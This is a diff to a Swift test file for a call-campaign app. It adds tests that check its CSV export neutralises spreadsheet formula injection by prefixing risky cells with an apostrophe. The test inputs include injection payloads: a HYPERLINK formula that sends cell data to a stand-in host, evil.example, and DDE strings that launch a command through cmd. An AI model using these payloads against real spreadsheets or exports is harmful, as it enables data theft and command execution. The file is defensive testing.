@@ -18,6 +18,43 @@ import Testing
         #expect(CSV.field(input) == expected)
     }
 
+    /// OWASP's rule: a cell a spreadsheet would read as a formula starts with `'`.
+    @Test(arguments: [
+        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("+8613800000001", "'+8613800000001"),
+        ("+86138****0001", "'+86138****0001"),
+        ("-1", "'-1"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "\"'\r=1\""),
+        ("a=1", "a=1"),
+        ("1-2", "1-2"),
+        (" =1", " =1"),
+    ])
+    func csvFormulaCellsArePrefixed(input: String, expected: String) {
+        #expect(CSV.field(input) == expected)
+    }
+
+    @Test func csvExportOfFormulaIdsIsInert() throws {
+        let database = try AppDatabase.inMemory()
+        let ids = ["=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(A1:A9)", "-cmd", "+1"]
+        let specs = ids.map {
+            JobSpec(
+                id: $0, type: .notify, campaign: "=c", calleeNbr: "+8613800000001", displayNbr: "+8675528000088",
+                payload: .notify(playInfoList: [.init(notifyVoice: "a.wav")]), meta: nil)
+        }
+        _ = try database.insertJobs(specs, intakeKey: "k", sourceFile: "f.json", policy: IntakePolicy(), now: Date(timeIntervalSince1970: 1_800_000_000))
+        var text = ""
+        try CampaignExport(database: database, campaign: "=c", format: .csv).write { text += $0 }
+        let records = Self.parseCSV(text).dropFirst()
+        #expect(records.map { $0[0] } == ids.map { "'" + $0 })
+        #expect(records.allSatisfy { $0[2] == "'+8613800000001" })
+        for record in records {
+            for cell in record { #expect(!cell.hasPrefix("=") && !cell.hasPrefix("+") && !cell.hasPrefix("-") && !cell.hasPrefix("@"), "\(record)") }
+        }
+    }
+
     @Test func csvRecordEndsWithCRLF() {
         #expect(CSV.record(["a", "b,c", ""]) == "a,\"b,c\",\r\n")
     }
@@ -50,7 +87,7 @@ import Testing
         #expect(records.dropFirst().map { $0[0] } == (0..<7).map { "j\($0)" })
         #expect(records.allSatisfy { $0.count == ExportRow.csvHeader.count })
         let first = records[1]
-        #expect(first[2] == "+8613800000001")
+        #expect(first[2] == "'+8613800000001", "a leading + is a formula to a spreadsheet")
         #expect(first[4] == "queued")
         #expect(first[12] == "2027-01-15T08:00:00Z")
         let meta = try JSONSerialization.jsonObject(with: Data(first[15].utf8)) as? [String: Any]
